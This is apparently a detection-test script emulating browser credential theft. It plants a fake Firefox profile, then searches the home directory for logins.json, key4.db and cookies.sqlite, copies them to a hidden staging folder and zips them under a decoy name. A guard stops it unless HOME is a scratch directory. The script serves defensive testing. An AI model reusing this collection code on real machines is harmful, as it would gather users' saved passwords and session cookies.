# technique: T1555.003 T1560.002
"""Credentials from Web Browsers (T1555.003): Firefox profiles found with
Path.rglob, their logins.json/key4.db/cookies.sqlite staged with
shutil.copyfile, then packed with shutil.make_archive (Archive via
Library, T1560.002).

Plants a fake profile ~/.mozilla/firefox/x1y2z3.default-release/ first.
The discovery does not name the profile: it searches HOME for
logins.json and key4.db by name, so any profile layout is found.

A good detector raises a high alert: a program reads Firefox's password
store (logins.json, key4.db) and archives it.
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import os
import shutil
import tempfile
from pathlib import Path

home = Path.home()
prof = home / ".mozilla" / "firefox" / "x1y2z3.default-release"
prof.mkdir(parents=True, exist_ok=True)
(prof / "logins.json").write_text('{"logins": [{"hostname": "https://mail.example", '
                                  '"encryptedUsername": "MDIEEPgAAA", "encryptedPassword": "MEIEEPgAAA"}]}')
(prof / "key4.db").write_bytes(b"SQLite format 3\0" + b"\0" * 84)
(prof / "cookies.sqlite").write_bytes(b"SQLite format 3\0" + b"\0" * 84)

stage = Path(tempfile.mkdtemp(prefix=".X11-"))
try:
    n = 0
    for pattern in ("logins.json", "key4.db", "cookies.sqlite"):
        for hit in home.rglob(pattern):
            n += 1
            shutil.copyfile(hit, stage / f"{n}_{hit.name}")
    out = shutil.make_archive(str(home / ".cache" / "thumbs"), "zip", root_dir=stage)
    print("archived", n, "files to", out)
finally:
    shutil.rmtree(stage)
